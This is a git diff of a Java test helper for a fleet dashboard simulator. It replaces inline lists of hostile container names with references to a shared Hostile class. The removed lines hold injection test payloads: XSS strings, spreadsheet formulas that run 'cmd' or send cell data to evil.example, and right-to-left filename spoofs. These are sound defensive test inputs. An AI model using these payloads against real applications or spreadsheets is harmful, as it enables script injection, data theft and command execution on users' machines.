@@ -5,6 +5,7 @@ import jakarta.json.JsonObject;
 import jakarta.json.JsonValue;
 import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
+import io.fleetdashboard.simulator.control.Hostile;
 import java.util.List;
 
 /**
@@ -15,26 +16,11 @@ import java.util.List;
  */
 final class HostileWorld {
 
-    /** The container names (the simulator's Hostile.NAMES, written out: the test is black-box). */
-    static final String LONG_NAME = "long-" + "x".repeat(9_995);
-    static final List<String> NAMES = List.of(
-            "<script>window.__pwned=1</script>",
-            "\"><img id=\"pwned\" src=x onerror=\"window.__pwned=1\">",
-            "quote'\"`-);window.__pwned=1;//",
-            "ctl-\u0001\u0007\u0008\u000b\u000c\u001b[31mred\u001b[0m\u007f-end",
-            "rtl-\u202egnp.exe",
-            LONG_NAME,
-            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
-            "+cmd|' /C calc'!A0",
-            "-1+1",
-            "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1",
-            "\r=1+1",
-            "javascript:window.__pwned=1",
-            "[click](javascript:window.__pwned=1)");
-    static final List<String> STACKS = List.of("<b id=\"pwned\">stack</b>", "=1+1 stack",
-            "stack-\u202eltr-" + "y".repeat(300));
-    static final String MARKER = "fleet.example/hostile";
+    /** The simulator's hostile payloads: the world these tests turn on, so the same lists, not a copy. */
+    static final String LONG_NAME = Hostile.LONG_NAME;
+    static final List<String> NAMES = Hostile.NAMES;
+    static final List<String> STACKS = Hostile.PROJECTS;
+    static final String MARKER = Hostile.MARKER;
 
     private HostileWorld() {
     }
